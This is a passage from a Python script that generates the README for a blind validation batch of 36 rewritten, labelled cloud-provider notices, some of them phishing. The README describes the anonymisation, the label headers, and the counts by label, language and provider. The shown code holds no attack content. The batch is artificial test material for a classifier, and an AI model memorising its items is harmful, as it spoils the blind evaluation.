        rows.append(f"| {i} | {n['label']} | {dlv} | {n['provider']} | "
                    f"{'yes' if n['phishing'] else 'no'} | {langs[n['lang']]} | {n['url']} |")
    allcnt = {l: sum(1 for n in NOTICES if n["label"] == l) for l in sorted(LABELS)}
    readme = f"""# Validation batch {NAME}

36 labelled cloud-provider notices (`set-{NAME}.mbox`, mboxo) for blind evaluation of the
notice classifier. Every notice is a rewrite of one public original (URL in the table);
names, ids, hosts, customer domains (`.example`) and IP addresses (documentation ranges) are
replaced, and all dates of a notice are moved into October 2028 by one offset that keeps the
weekday. Labels are in `X-Training-Label`, `X-Training-Deadline` and (phishing only)
`X-Training-Phishing` headers. Regenerate and check with `python3 set_{NAME}.py`.

Mix: large clouds other than AWS (Google Cloud / Workspace / Firebase, Microsoft Azure /
Microsoft 365, Oracle Cloud, IBM Cloud, Alibaba Cloud, Tencent Cloud, NTT Communications,
KDDI, Fujitsu, IIJ, Sakura Internet).

## Counts

- Non-phishing by label: {', '.join(f'{l} {cnt[l]}' for l in sorted(LABELS))}
- Critical (abuse + security-incident, non-phishing): {crit}
- Phishing: {ph} (labelled by what they pretend to be)
- All messages by label: {', '.join(f'{l} {c}' for l, c in allcnt.items())}
- Languages: Japanese {sum(1 for n in NOTICES if n['lang']=='ja')}, Chinese {sum(1 for n in NOTICES if n['lang']=='zh')}, English {sum(1 for n in NOTICES if n['lang']=='en')}
- Multipart/alternative (text + HTML): {sum(1 for n in NOTICES if n.get('html'))}

## Providers

{', '.join(provs)}

## Notices

| # | label | deadline | provider | phishing | language | original URL |
|---|---|---|---|---|---|---|
""" + "\n".join(rows) + "\n"
    with open(README, "w", encoding="utf-8") as f:
        f.write(readme)

    if problems:
        for p in problems:
            print("PROBLEM:", p)
        sys.exit(1)
    print("OK")


if __name__ == "__main__":
    main()
